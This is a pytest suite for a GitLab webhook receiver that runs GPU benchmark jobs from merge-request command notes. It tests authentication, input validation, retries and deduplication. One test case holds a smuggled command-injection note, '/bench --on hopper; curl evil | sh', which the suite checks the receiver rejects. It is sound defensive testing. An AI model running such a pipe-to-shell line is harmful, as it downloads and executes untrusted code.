# Copyright (c) 2026, the mrbot authors.
# SPDX-License-Identifier: MIT
"""`mrbot webhook` over HTTP on loopback against the fake GitLab: which notes run a GPU job, once each, and what every
other delivery is answered, GitLab failing or not."""

from __future__ import annotations

import sqlite3
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import pytest
import urllib3.util.retry

from mrbot.ci import receiver
from mrbot.ci.receiver import MAX_BODY, PATH
from mrbot.cli import main
from mrbot.forges import MAX_BACKOFF, connect
from mrbot.forges import gitlab as forges_gitlab
from tests.mrbot.ci.receiver_load import run_load
from tests.mrbot.ci.serving import (
    BOT_ID,
    SECRET,
    deliver,
    eventually,
    note_event,
    raw_exchange,
    serving,
    settings,
)
from tests.mrbot.forges.fakeforge import BACKOFF, PROJECT_TOKEN, RESET, FakeGitLab, created_at

ON_HOPPER = '/bench chunk_kda --on hopper'


@pytest.fixture
def gitlab() -> Iterator[FakeGitLab]:
    """A merge request (!1) whose head has a merge request pipeline with a manual job for each GPU class, and alice,
    a Developer."""
    with FakeGitLab() as server:
        server.open_merge_request('feature')
        server.start_pipeline(1)
        server.members['alice'] = 30
        yield server


def _jobs(gitlab: FakeGitLab, pipeline: int) -> dict[str, int]:
    return {gitlab.pipeline_jobs[job]['name']: job for job in gitlab.pipelines[pipeline]['jobs']}


def _played(gitlab: FakeGitLab) -> list[tuple[int, str]]:
    """(job, the note it was run for) of each job run, in order."""
    return [(job, variables['MRBOT_COMMAND_NOTE']) for job, variables, _ in gitlab.plays]


def test_a_command_note_runs_the_manual_job_of_the_class_it_names_with_the_note(gitlab, tmp_path):
    note = gitlab.add_note(1, ON_HOPPER)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        answer = deliver(served.port, note_event(note, ON_HOPPER))
        assert (answer.status, answer.text) == (202, f'accepted: note {note}\n')
        eventually(lambda: gitlab.plays, 'the job to run')
        eventually(lambda: served.note_state(note)[0] == 'played', 'the note to be settled')
    # the job reads the note back, as the token's user runs it: who asked is GitLab's record, not a variable
    hopper = _jobs(gitlab, 100)['mrbot-bench-hopper']
    assert gitlab.plays == [(hopper, {'MRBOT_COMMAND_NOTE': str(note)}, 'project_7_bot')]


def test_a_note_naming_no_class_runs_every_gpu_job_and_each_job_decides(gitlab, tmp_path):
    note = gitlab.add_note(1, '/test tests/ops')
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        assert deliver(served.port, note_event(note, '/test tests/ops')).status == 202
        eventually(lambda: len(gitlab.plays) == 2, 'both jobs to run')
    assert sorted(_played(gitlab)) == sorted((job, str(note)) for job in _jobs(gitlab, 100).values())


def test_a_job_that_ran_already_is_run_again_in_a_new_pipeline_of_the_head(gitlab, tmp_path):
    first, second = gitlab.add_note(1, ON_HOPPER), gitlab.add_note(1, ON_HOPPER)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(first, ON_HOPPER))
        eventually(lambda: len(gitlab.plays) == 1, 'the first note to run')
        deliver(served.port, note_event(second, ON_HOPPER))
        eventually(lambda: len(gitlab.plays) == 2, 'the second note to run')
    # GitLab's new pipeline makes its jobs before they wait to be run; the receiver waited, and made one pipeline
    assert list(gitlab.pipelines) == [100, 101]
    assert _played(gitlab) == [(_jobs(gitlab, 100)['mrbot-bench-hopper'], str(first)),
                               (_jobs(gitlab, 101)['mrbot-bench-hopper'], str(second))]


@pytest.mark.parametrize('token', [None, '', 'a-webhook-secret-of-some-lengtH', SECRET + 'x', SECRET[:-1]])
def test_a_delivery_without_the_secret_is_refused_and_kept_nowhere(gitlab, tmp_path, token):
    note = gitlab.add_note(1, ON_HOPPER)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        answer = deliver(served.port, note_event(note, ON_HOPPER), token=token)
        assert (answer.status, answer.text) == (401, "unauthorized: X-Gitlab-Token is not this webhook's secret token\n")
        assert served.note_state(note) is None
        # GitLab's own delivery of the same note afterwards is a new one, not a duplicate
        assert deliver(served.port, note_event(note, ON_HOPPER)).status == 202


@pytest.mark.parametrize(('body', 'message'), [
    (b'{"object_attributes": ', 'the delivery: not JSON'),
    (b'\xff\xfe{}', 'the delivery: not UTF-8 text'),
    (b'[' * 100_000, 'the delivery: not JSON'),
    (b'[{"object_attributes": {}}]', 'the delivery: expected a JSON object (a GitLab note event), got a list'),
    (b'{}', 'the delivery: object_attributes: missing, expected an object'),
    (b'{"object_attributes": {"id": "12"}}', 'the delivery: object_attributes.id: expected a whole number, got the '
                                             'string "12"'),
    (b'{"object_attributes": {"id": -3}}', 'the delivery: object_attributes.id: expected the id of a note, got -3'),
    (b'{"object_attributes": {"id": 3}, "project": {"path_with_namespace": ["lab"]}}',
     'the delivery: project.path_with_namespace: expected a string, got a list'),
])
def test_a_body_that_is_no_note_event_is_400_in_one_line(gitlab, tmp_path, body, message):
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        answer = deliver(served.port, body)
    assert answer.status == 400 and answer.text.startswith(f'malformed: {message}')
    assert answer.text.count('\n') == 1 and len(answer.text) < 400


@pytest.mark.parametrize(('field', 'value', 'message'), [
    ('author_id', 2 ** 64, 'object_attributes.author_id: expected the id of a user, got 18446744073709551616'),
    ('username', 'a' * 256, 'user.username: expected a GitLab username of 1 to 255 characters, got the string "aaaa'),
])
def test_a_note_by_an_author_gitlab_cannot_have_is_400_and_kept_nowhere(gitlab, tmp_path, field, value, message):
    event = note_event(gitlab.add_note(1, ON_HOPPER), ON_HOPPER)
    (event['object_attributes'] if field == 'author_id' else event['user'])[field] = value
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        answer = deliver(served.port, event)
        assert served.note_state(event['object_attributes']['id']) is None
    assert answer.status == 400 and answer.text.startswith(f'malformed: the delivery: {message}')


def test_a_body_over_the_limit_is_413_whether_it_says_its_length_or_not(gitlab, tmp_path):
    head = f'POST {PATH} HTTP/1.1\r\nHost: x\r\nX-Gitlab-Token: {SECRET}\r\nX-Gitlab-Event: Note Hook\r\n'
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        # a length over the limit is answered before any of the body is read, none is sent here, and the connection
        # is closed rather than kept by reading the rest
        declared = raw_exchange(served.port, f'{head}Content-Length: {MAX_BODY + 1}\r\n\r\n'.encode(), [])
        # chunks of no declared length are read up to the limit and no further: the limit and one byte are sent, and
        # the answer comes before the last chunk
        chunks = [b'10000\r\n' + b' ' * 0x10000 + b'\r\n'] * (MAX_BODY // 0x10000) + [b'1\r\n{\r\n']
        chunked = raw_exchange(served.port, f'{head}Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n'.encode(),
                               chunks)
        # a delivery at the limit is read
        assert deliver(served.port, b'{}' + b' ' * (MAX_BODY - 2)).status == 400
    for answer in (declared, chunked):
        assert answer.startswith(b'HTTP/1.1 413 ') and answer.endswith(b'too large: a delivery is read up to 1048576 '
                                                                         b'bytes\n')


def test_a_body_not_sent_in_time_is_408_and_its_connection_closed(gitlab, tmp_path):
    head = (f'POST {PATH} HTTP/1.1\r\nHost: x\r\nX-Gitlab-Token: {SECRET}\r\nX-Gitlab-Event: Note Hook\r\n'
            'Content-Length: 100\r\n\r\n')
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3', body_s=0.2)) as served:
        # 10 of the 100 bytes it declares, and then nothing: the answer comes, and the connection ends, without them
        answer = raw_exchange(served.port, head.encode(), [b'{"object_'])
        assert deliver(served.port, note_event(gitlab.add_note(1, ON_HOPPER), ON_HOPPER)).status == 202
    assert answer.startswith(b'HTTP/1.1 408 ') and answer.endswith(b'timeout: the body was not sent within 0.2 s\n')
    assert b'connection: close' in answer.lower()


def test_a_delivery_without_the_secret_is_answered_without_reading_its_body(gitlab, tmp_path):
    head = f'POST {PATH} HTTP/1.1\r\nHost: x\r\nX-Gitlab-Token: not-it\r\nContent-Length: {100 * MAX_BODY}\r\n\r\n'
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        answer = raw_exchange(served.port, head.encode(), [])
    assert answer.startswith(b'HTTP/1.1 401 ') and b'connection: close' in answer.lower()


def test_another_method_or_path_is_refused(gitlab, tmp_path):
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        assert deliver(served.port, b'', method='GET').status == 405
        assert deliver(served.port, b'{}', path='/').status == 404
        assert deliver(served.port, b'{}', path=PATH + '/x', token=None).status == 404


@pytest.mark.parametrize(('event', 'changes', 'reason'), [
    ('Push Hook', {}, 'event'),
    # an internal note; nothing is read from those
    ('Confidential Note Hook', {}, 'event'),
    ('Note Hook', {'action': 'update'}, 'edit'),
    ('Note Hook', {'state': 'closed'}, 'not-open'),
    ('Note Hook', {'state': 'merged'}, 'not-open'),
    ('Note Hook', {'noteable': 'Issue'}, 'not-merge-request'),
    ('Note Hook', {'text': 'Looks good, /bench it please'}, 'not-command'),
    ('Note Hook', {'text': '/mrbot help'}, 'not-command'),
    ('Note Hook', {'text': '/bench --on hopper; curl evil | sh'}, 'malformed'),
    ('Note Hook', {'project': 'lab/kernels/other'}, 'project'),
])
def test_anything_but_a_new_command_note_on_an_open_merge_request_is_ignored_with_its_reason(
        gitlab, tmp_path, event, changes, reason):
    text = changes.pop('text', ON_HOPPER)
    note = gitlab.add_note(1, text)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        answer = deliver(served.port, note_event(note, text, **changes), event=event)
        assert (answer.status, answer.text) == (200, f'ignored: {reason}\n')
        assert served.note_state(note) is None
    assert gitlab.plays == [] and gitlab.requests == []


@pytest.mark.parametrize(('author', 'author_id', 'outcome'), [
    ('project_7_bot', BOT_ID, "the bot's own note"),
    ('mallory', 66, 'mallory has none access, below Developer'),
    ('reader', 3, 'reader has read access, below Developer'),
])
def test_the_bots_own_note_and_those_of_users_below_developer_run_nothing(gitlab, tmp_path, author, author_id, outcome):
    gitlab.members['reader'] = 20
    note = gitlab.add_note(1, ON_HOPPER, author=author)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        assert deliver(served.port, note_event(note, ON_HOPPER, author=author, author_id=author_id)).status == 202
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
        assert served.note_state(note) == ('dropped', outcome)
    assert gitlab.plays == [] and gitlab.notes_on(1) == [(author, ON_HOPPER)]


def test_a_duplicate_delivery_runs_the_note_once(gitlab, tmp_path):
    note = gitlab.add_note(1, ON_HOPPER)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        assert deliver(served.port, note_event(note, ON_HOPPER)).status == 202
        # GitLab's "Resend request", or a replay by whoever saw the delivery, while the first is being played
        assert deliver(served.port, note_event(note, ON_HOPPER)).text == 'ignored: duplicate\n'
        eventually(lambda: served.note_state(note)[0] == 'played', 'the note to be played')
        assert deliver(served.port, note_event(note, ON_HOPPER)).text == 'ignored: duplicate\n'
    # and after a restart
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        assert deliver(served.port, note_event(note, ON_HOPPER)).text == 'ignored: duplicate\n'
    assert len(gitlab.plays) == 1


def test_a_gitlab_failing_for_a_while_delays_the_note_and_runs_its_job_once(gitlab, tmp_path):
    note = gitlab.add_note(1, ON_HOPPER)
    # the adapter tries each request twice: the first try of the note fails on its first request, the second on the run
    gitlab.fail('GET', '/merge_requests/1', 503, times=2)
    gitlab.fail('POST', '/play', 502, times=1)
    gitlab.fail('POST', '/play', RESET, times=1)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3', attempts=4)) as served:
        assert deliver(served.port, note_event(note, ON_HOPPER)).status == 202
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
        assert served.note_state(note)[0] == 'played'
    assert _played(gitlab) == [(_jobs(gitlab, 100)['mrbot-bench-hopper'], str(note))]
    assert gitlab.count('POST', '/play') == 3 and list(gitlab.pipelines) == [100]


def test_a_gitlab_asking_for_a_days_pause_is_asked_again_within_the_longest_pause(gitlab, monkeypatch):
    slept: list[float] = []
    monkeypatch.setattr(urllib3.util.retry, 'time', SimpleNamespace(sleep=slept.append, time=time.time))
    gitlab.fail('GET', '/merge_requests/1', 429, headers={'Retry-After': '86400'})
    forge = connect('gitlab', gitlab.project, url=gitlab.url, token=PROJECT_TOKEN, environ={}, retries=1, backoff=BACKOFF)
    assert forge.get_pull(1).number == 1
    assert slept == [MAX_BACKOFF] and gitlab.count('GET', '/merge_requests/1') == 2


def test_a_gitlab_that_does_not_answer_is_asked_again(gitlab, monkeypatch):
    monkeypatch.setattr(forges_gitlab, 'REQUEST_TIMEOUT_S', 0.2)
    released = threading.Event()
    gitlab.after('GET', '/merge_requests/1', released.wait)
    forge = connect('gitlab', gitlab.project, url=gitlab.url, token=PROJECT_TOKEN, environ={}, retries=1, backoff=BACKOFF)
    try:
        assert forge.get_pull(1).number == 1
    finally:
        released.set()
    assert gitlab.count('GET', '/merge_requests/1') == 2


def test_a_job_whose_run_gitlab_took_but_whose_answer_was_lost_is_not_run_again(gitlab, tmp_path):
    note = gitlab.add_note(1, ON_HOPPER)
    # GitLab starts the job and the connection drops before its answer: the adapter's own retry is refused, the job
    # having run
    gitlab.fail('POST', '/play', RESET, done=True)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(note, ON_HOPPER))
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
        assert served.note_state(note) == ('played', 'its jobs ran already')
    assert _played(gitlab) == [(_jobs(gitlab, 100)['mrbot-bench-hopper'], str(note))]
    assert gitlab.count('POST', '/play') == 2 and list(gitlab.pipelines) == [100]


def test_a_job_whose_answer_was_lost_is_the_notes_one_job_of_its_class_after_a_push_and_a_new_pipeline(gitlab, tmp_path):
    note = gitlab.add_note(1, ON_HOPPER)
    hopper = _jobs(gitlab, 100)['mrbot-bench-hopper']

    def push() -> None:
        gitlab.push(1, 'b' * 40, created_at(5))
        gitlab.start_pipeline(1)

    # GitLab starts the job and a proxy answers 502; before the next try the author pushes and GitLab makes the new
    # head's pipeline, whose hopper job waits
    gitlab.fail('POST', '/play', 502, done=True)
    gitlab.after('POST', '/play', push)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(note, ON_HOPPER))
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
        assert served.note_state(note) == ('played', 'its jobs ran already')
    assert _played(gitlab) == [(hopper, str(note))]


def test_a_job_another_note_asked_for_is_left_to_it_and_each_note_runs_each_class_once(gitlab, tmp_path):
    on_blackwell = ON_HOPPER.replace('hopper', 'blackwell')
    # the second note asks for the class whose job the first note's failing try recorded and still waits
    every, blackwell_only = gitlab.add_note(1, '/test tests/ops'), gitlab.add_note(1, on_blackwell)
    blackwell = _jobs(gitlab, 100)['mrbot-bench-blackwell']
    gitlab.fail('POST', f'/jobs/{blackwell}/play', 503, times=2)
    # the first note's tries are a second or more apart, and the second note is played in between
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3', backoff_s=2.0, workers=2)) as served:
        deliver(served.port, note_event(every, '/test tests/ops'))
        eventually(lambda: gitlab.count('POST', f'/jobs/{blackwell}/play') == 2, "the first note's first try to fail")
        deliver(served.port, note_event(blackwell_only, on_blackwell))
        eventually(lambda: all(served.note_state(n)[0] != 'pending' for n in (every, blackwell_only)), 'both settled')
    runs = sorted((gitlab.pipeline_jobs[job]['name'], note) for job, note in _played(gitlab))
    assert runs == [('mrbot-bench-blackwell', str(every)), ('mrbot-bench-blackwell', str(blackwell_only)),
                    ('mrbot-bench-hopper', str(every))]
    assert (blackwell, str(every)) in _played(gitlab)


def test_a_pipeline_whose_answer_was_lost_is_not_made_again(gitlab, tmp_path):
    first, second = gitlab.add_note(1, ON_HOPPER), gitlab.add_note(1, ON_HOPPER)
    # GitLab makes the pipeline and a proxy answers 502: sending the request again would make another
    gitlab.fail('POST', '/merge_requests/1/pipelines', 502, done=True)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(first, ON_HOPPER))
        eventually(lambda: served.note_state(first)[0] == 'played', 'the first note to run')
        deliver(served.port, note_event(second, ON_HOPPER))
        eventually(lambda: served.note_state(second)[0] != 'pending', 'the second note to be settled')
        assert served.note_state(second)[0] == 'played'
    assert list(gitlab.pipelines) == [100, 101] and gitlab.count('POST', '/merge_requests/1/pipelines') == 1
    assert _played(gitlab) == [(_jobs(gitlab, 100)['mrbot-bench-hopper'], str(first)),
                               (_jobs(gitlab, 101)['mrbot-bench-hopper'], str(second))]


def test_a_note_for_two_classes_whose_second_job_gitlab_refuses_runs_the_first_once_and_says_so(gitlab, tmp_path):
    text = '/bench --on hopper blackwell'
    note = gitlab.add_note(1, text)
    jobs = _jobs(gitlab, 100)
    gitlab.fail('POST', f"/jobs/{jobs['mrbot-bench-blackwell']}/play", 503, times=100)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(note, text))
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
        assert served.note_state(note)[0] == 'answered'
    # each try asked again only for the job that had not run
    assert _played(gitlab) == [(jobs['mrbot-bench-hopper'], str(note))]
    assert gitlab.count('POST', f"/jobs/{jobs['mrbot-bench-hopper']}/play") == 1
    assert (f"It had asked GitLab to run mrbot-bench-hopper (job {jobs['mrbot-bench-hopper']}), mrbot-bench-blackwell "
            f"(job {jobs['mrbot-bench-blackwell']}) before that.") in gitlab.notes_on(1)[-1][1]


def test_a_note_whose_job_gitlab_keeps_refusing_is_answered_with_why(gitlab, tmp_path):
    note = gitlab.add_note(1, ON_HOPPER)
    gitlab.fail('POST', '/play', 503, times=100, message='GitLab is not available')
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(note, ON_HOPPER))
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
        assert served.note_state(note)[0] == 'answered'
    (author, answer), = gitlab.notes_on(1)[1:]
    assert author == 'project_7_bot' and gitlab.plays == []
    assert answer.startswith(f'mrbot could not run the GPU jobs for note {note}: GitLab: running job ')
    assert 'still failing after 1 retry' in answer and 'give the command again in a new note' in answer


def test_a_note_on_a_merge_request_the_project_lacks_is_dropped_after_its_tries_with_no_answer(gitlab, tmp_path):
    # a delivery forged with the secret names one; there is nowhere to answer, and no day of tries to give it
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        assert deliver(served.port, note_event(99, ON_HOPPER, iid=999)).status == 202
        eventually(lambda: served.note_state(99)[0] != 'pending', 'the note to be settled')
        assert served.note_state(99) == ('dropped', 'the project has no merge request !999')
    assert gitlab.count('GET', '/merge_requests/999') == 3 and gitlab.plays == [] and gitlab.notes_on(999) == []


def test_a_merge_request_gitlab_misses_once_is_tried_again_and_its_note_runs(gitlab, tmp_path):
    # a replica behind a merge request just opened answers 404 for a moment
    note = gitlab.add_note(1, ON_HOPPER)
    gitlab.fail('GET', '/merge_requests/1', 404, message='404 Not found')
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(note, ON_HOPPER))
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
        assert served.note_state(note)[0] == 'played'
    assert _played(gitlab) == [(_jobs(gitlab, 100)['mrbot-bench-hopper'], str(note))]


def test_an_answer_gitlab_made_though_its_reply_was_lost_is_not_posted_again(gitlab, tmp_path, monkeypatch):
    monkeypatch.setattr(receiver, 'LATER_S', 0.05)
    iid = gitlab.open_merge_request('feature', source_project='stranger/fla')
    note = gitlab.add_note(iid, ON_HOPPER)
    # GitLab makes each note, and a proxy loses its answer
    gitlab.fail('POST', f'/merge_requests/{iid}/notes', 502, times=1000, done=True)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(note, ON_HOPPER, iid=iid))
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
    assert served.note_state(note)[0] == 'answered'
    assert gitlab.count('POST', f'/merge_requests/{iid}/notes') == 1 and len(gitlab.notes_on(iid)) == 2


def test_a_note_whose_merge_request_gitlab_answers_oddly_is_tried_as_often_as_any_and_answered(gitlab, tmp_path):
    note = gitlab.add_note(1, ON_HOPPER)
    # a state no GitLab release documents: the adapter cannot read it, a failed try like a 503
    gitlab.merge_requests[1]['state'] = 'reopened'
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(note, ON_HOPPER))
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
        assert served.note_state(note)[0] == 'answered'
    (_, answer), = gitlab.notes_on(1)[1:]
    assert answer.startswith(f'mrbot could not run the GPU jobs for note {note}: internal error: ') and gitlab.plays == []


def test_a_note_neither_played_nor_answered_stays_pending_and_is_played_after_a_restart(gitlab, tmp_path):
    note = gitlab.add_note(1, ON_HOPPER)
    state = tmp_path / 'notes.sqlite3'
    for method in ('GET', 'POST'):
        gitlab.fail(method, '', RESET, times=10_000)
    with serving(gitlab, settings(gitlab, state, attempts=2)) as served:
        assert deliver(served.port, note_event(note, ON_HOPPER)).status == 202
        # the tries are spent and the answer failed too: the note waits for a later try
        eventually(lambda: served.note_state(note)[1], 'the note to be given up for now')
        assert served.note_state(note)[0] == 'pending'
    gitlab.failures.clear()
    with serving(gitlab, settings(gitlab, state)) as served:
        eventually(lambda: gitlab.plays, 'the note to be played after the restart')
        eventually(lambda: served.note_state(note)[0] == 'played', 'the note to be settled')
    assert _played(gitlab) == [(_jobs(gitlab, 100)['mrbot-bench-hopper'], str(note))]
    assert gitlab.notes_on(1) == [('alice', ON_HOPPER)]


def test_a_note_neither_played_nor_answered_for_a_day_is_given_up(gitlab, tmp_path, monkeypatch):
    monkeypatch.setattr(receiver, 'GIVE_UP_S', -1)
    note = gitlab.add_note(1, ON_HOPPER)
    for method in ('GET', 'POST'):
        gitlab.fail(method, '', 503, times=10_000)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3', attempts=2)) as served:
        deliver(served.port, note_event(note, ON_HOPPER))
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be given up')
        state, outcome = served.note_state(note)
    assert state == 'dropped' and outcome.startswith('given up a day after it came: GitLab: reading merge request !1')
    assert gitlab.plays == []


def test_a_state_file_locked_for_a_while_delays_notes_and_loses_none(gitlab, tmp_path, capsys):
    first, second = gitlab.add_note(1, ON_HOPPER), gitlab.add_note(1, ON_HOPPER)
    state = tmp_path / 'notes.sqlite3'
    released = threading.Event()
    # the one worker is held in its first request to GitLab until the test lets it go
    gitlab.after('GET', '/merge_requests/1', released.wait)
    errors: list[str] = []
    with serving(gitlab, settings(gitlab, state, workers=1)) as served:
        assert deliver(served.port, note_event(first, ON_HOPPER)).status == 202
        eventually(lambda: gitlab.count('GET', '/merge_requests/1'), 'the worker to take the first note')
        # an operator's long write: the worker's writes of the first note, and of its delay, are refused
        other = sqlite3.connect(state, isolation_level=None)
        other.execute('BEGIN IMMEDIATE')
        released.set()
        eventually(lambda: errors.append(capsys.readouterr().err) or 'the state file refused its delay too' in
                   ''.join(errors), 'the worker to meet the locked file', timeout=60)
        other.execute('ROLLBACK')
        other.close()
        assert deliver(served.port, note_event(second, ON_HOPPER)).status == 202
        eventually(lambda: all(served.note_state(n)[0] == 'played' for n in (first, second)), 'both notes to run')
    assert sorted(note for _, note in _played(gitlab)) == [str(first), str(second)]
    assert 'note 1: internal error: OperationalError: database is locked' in ''.join(errors)


def test_a_full_queue_answers_429_and_keeps_nothing_of_what_it_refused(gitlab, tmp_path):
    notes = [gitlab.add_note(1, ON_HOPPER) for _ in range(3)]
    released = threading.Event()
    # the one worker is held in its first request to GitLab until the test lets it go
    gitlab.after('GET', '/merge_requests/1', released.wait)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3', workers=1, queue=1)) as served:
        assert deliver(served.port, note_event(notes[0], ON_HOPPER)).status == 202
        eventually(lambda: gitlab.count('GET', '/merge_requests/1'), 'the worker to take the first note')
        assert deliver(served.port, note_event(notes[1], ON_HOPPER)).status == 202
        refused = deliver(served.port, note_event(notes[2], ON_HOPPER))
        assert (refused.status, refused.retry_after) == (429, '30')
        assert refused.text == 'busy: 1 note waiting already; deliver this one again in 30 s\n'
        assert served.note_state(notes[2]) is None
        released.set()
        eventually(lambda: len(gitlab.plays) == 2, 'the two accepted notes to run')
        # delivered again, as GitLab's "Resend request" does
        assert deliver(served.port, note_event(notes[2], ON_HOPPER)).status == 202
        eventually(lambda: len(gitlab.plays) == 3, 'the third note to run')
    assert sorted(note for _, note in _played(gitlab)) == sorted(map(str, notes))


def test_a_project_of_merged_results_pipelines_is_told_why_its_jobs_cannot_run(gitlab, tmp_path):
    gitlab.merged_results = True
    iid = gitlab.open_merge_request('fix/overflow')
    gitlab.start_pipeline(iid)
    note = gitlab.add_note(iid, ON_HOPPER)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(note, ON_HOPPER, iid=iid))
        eventually(lambda: served.note_state(note)[0] == 'answered', 'the note to be answered')
    assert gitlab.plays == [] and len(gitlab.pipelines) == 3
    assert 'the GPU jobs run the head, in merge request pipelines, and this project makes merged-results pipelines' in \
        gitlab.notes_on(iid)[-1][1]


def test_a_merge_request_from_a_fork_runs_nothing_and_is_answered_with_why(gitlab, tmp_path):
    iid = gitlab.open_merge_request('feature', source_project='stranger/fla')
    gitlab.start_pipeline(iid)
    note = gitlab.add_note(iid, ON_HOPPER)
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(note, ON_HOPPER, iid=iid))
        eventually(lambda: served.note_state(note)[0] != 'pending', 'the note to be settled')
        assert served.note_state(note)[0] == 'answered'
    # the fork's own .gitlab-ci.yml would run with this project's variables: no pipeline made, no job run
    assert gitlab.plays == [] and gitlab.count('POST', '/pipelines') == 0
    answer = gitlab.notes_on(iid)[-1][1]
    assert f'!{iid} comes from the fork stranger/fla' in answer and 'a maintainer reviews its changes' in answer


def test_a_class_without_a_job_is_answered_with_the_jobs_there_are(gitlab, tmp_path):
    note = gitlab.add_note(1, '/bench --on ampere')
    with serving(gitlab, settings(gitlab, tmp_path / 'notes.sqlite3')) as served:
        deliver(served.port, note_event(note, '/bench --on ampere'))
        eventually(lambda: served.note_state(note)[0] == 'answered', 'the note to be answered')
    assert "has no job mrbot-bench-ampere (it has mrbot-bench-hopper, mrbot-bench-blackwell)" in gitlab.notes_on(1)[-1][1]
    assert gitlab.plays == [] and list(gitlab.pipelines) == [100]


@pytest.mark.parametrize(('environ', 'message'), [
    ({}, 'MRBOT_WEBHOOK_SECRET is not set'),
    ({'MRBOT_WEBHOOK_SECRET': 'secret'}, 'MRBOT_WEBHOOK_SECRET: expected 16 or more visible ASCII characters'),
    ({'MRBOT_WEBHOOK_SECRET': SECRET}, "MRBOT_GITLAB_PROJECT '': expected the path of the GitLab project"),
    ({'MRBOT_WEBHOOK_SECRET': SECRET, 'MRBOT_GITLAB_PROJECT': 'lab/fla'}, 'GITLAB_TOKEN is not set'),
    ({'MRBOT_WEBHOOK_SECRET': SECRET, 'MRBOT_GITLAB_PROJECT': 'lab/fla', 'GITLAB_TOKEN': 't',
      'MRBOT_WEBHOOK_PORT': '80000'}, "MRBOT_WEBHOOK_PORT '80000': expected a whole number from 1 to 65535"),
])
def test_the_command_refuses_to_start_without_what_it_needs_in_one_line(monkeypatch, capsys, environ, message):
    for name in ('MRBOT_WEBHOOK_SECRET', 'MRBOT_GITLAB_PROJECT', 'GITLAB_TOKEN', 'MRBOT_WEBHOOK_PORT'):
        monkeypatch.delenv(name, raising=False)
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    assert main(['webhook']) == 2
    err = capsys.readouterr().err
    assert err.startswith(f'mrbot webhook: error: {message}') and err.count('\n') == 1


def test_the_command_refuses_a_state_file_it_cannot_keep_in_one_line(monkeypatch, capsys, tmp_path: Path):
    state = tmp_path / 'missing' / 'notes.sqlite3'
    for name, value in {'MRBOT_WEBHOOK_SECRET': SECRET, 'MRBOT_GITLAB_PROJECT': 'lab/fla', 'GITLAB_TOKEN': 't',
                        'MRBOT_WEBHOOK_STATE': str(state)}.items():
        monkeypatch.setenv(name, value)
    assert main(['webhook']) == 2
    assert capsys.readouterr().err == (f'mrbot webhook: error: {state}: cannot keep the notes there (unable to open '
                                       'database file); name a writable file\n')


def test_a_thousand_deliveries_a_tenth_hostile_run_each_note_once_lose_none_and_leave_memory_flat(tmp_path):
    figures = run_load(tmp_path, traced=True)
    # every command note ran once, those refused as too many included once delivered again; no hostile one ran
    assert figures.notes == 500 and set(figures.runs_per_note.values()) == {1}
    assert figures.answers[202] == 500 and figures.answers[200] == 425
    assert figures.answers[401] == figures.answers[400] == figures.answers[413] == 25
    # 900 deliveries after the warm-up, each body about 1 KB: a body, a note or a task kept per delivery shows here
    # (what stays is sqlite's and the adapters' caches, 25 to 103 KB)
    assert figures.held_kb < 512
